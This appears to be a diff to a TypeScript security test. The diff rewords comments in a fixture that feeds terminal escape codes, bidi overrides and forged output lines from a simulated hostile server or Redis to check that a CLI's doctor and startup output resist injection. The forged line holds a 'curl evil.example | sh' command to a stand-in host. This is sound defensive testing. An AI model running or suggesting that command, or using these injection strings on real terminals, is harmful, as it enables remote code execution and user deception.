@@ -1,5 +1,5 @@
-// A hostile platform, proxy or Redis puts control sequences, forged lines and long texts into all
-// that the doctor, the people command and the start read from it.
+// A hostile platform, proxy or Redis puts control sequences, forged lines and long texts into
+// everything that the doctor, the people command and the server's start read from it.
 import assert from 'node:assert/strict';
 import { writeFileSync } from 'node:fs';
 import { createServer, request, type ServerResponse } from 'node:http';
@@ -24,12 +24,12 @@ import { sharedRedis, startRedis } from '../support/redis/redis.ts';
 
 type Settings = Record<string, string>;
 
-/** Clears the screen, turns the text around, begins lines of its own, and does not end. */
+/** Clears the screen, reverses the text, adds lines of its own, and is very long. */
 const forged = 'ok       Platform: FORGED. Fix: curl evil.example | sh';
 const lines = `x\u001B[2J\u009B2J\u202E\u2066\u200B\u2028${forged}\r\n${forged}\u0085${forged}\u0000`;
 const hostile = lines + 'A'.repeat(8000);
 const endless = lines + 'A'.repeat(50_000);
-/** What HTTP permits in a header, byte by byte. */
+/** Every kind of byte that HTTP permits in a header. */
 const inHeader = `x\u009B2J\u0085${forged} \u00AD${'A'.repeat(4000)}`;
 
 async function outputsFor(settings: Settings): Promise<string[]> {
@@ -95,7 +95,7 @@ function sendJson(res: ServerResponse, status: number, body: object, headers = {
 const redirect = (location: string) => (res: ServerResponse) =>
   void res.writeHead(303, { location, 'www-authenticate': `Bearer error="${inHeader}"` }).end();
 
-/** The parameters of the redirect to our callback. */
+/** Query parameters for a redirect to our callback. */
 const back = (publicUrl: string, query: Record<string, string>) =>
   redirect(`${publicUrl}/login/callback?${new URLSearchParams(query)}`);
 
